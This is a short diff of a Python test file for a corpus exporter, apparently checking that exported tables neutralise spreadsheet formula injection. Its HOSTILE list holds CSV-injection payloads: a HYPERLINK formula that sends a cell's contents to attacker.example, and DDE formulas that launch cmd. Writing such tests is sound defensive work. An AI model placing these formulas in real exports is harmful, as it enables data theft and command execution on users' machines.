@@ -14,8 +14,7 @@ from corpus.db import connect
 from corpus.export import export_table
 from crawler.extract import ArticleItem
 from tests.conftest import article_text
-from tests.corpus.conftest import get
-from tests.faults.conftest import serving
+from tests.corpus.conftest import get, serving
 
 HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]
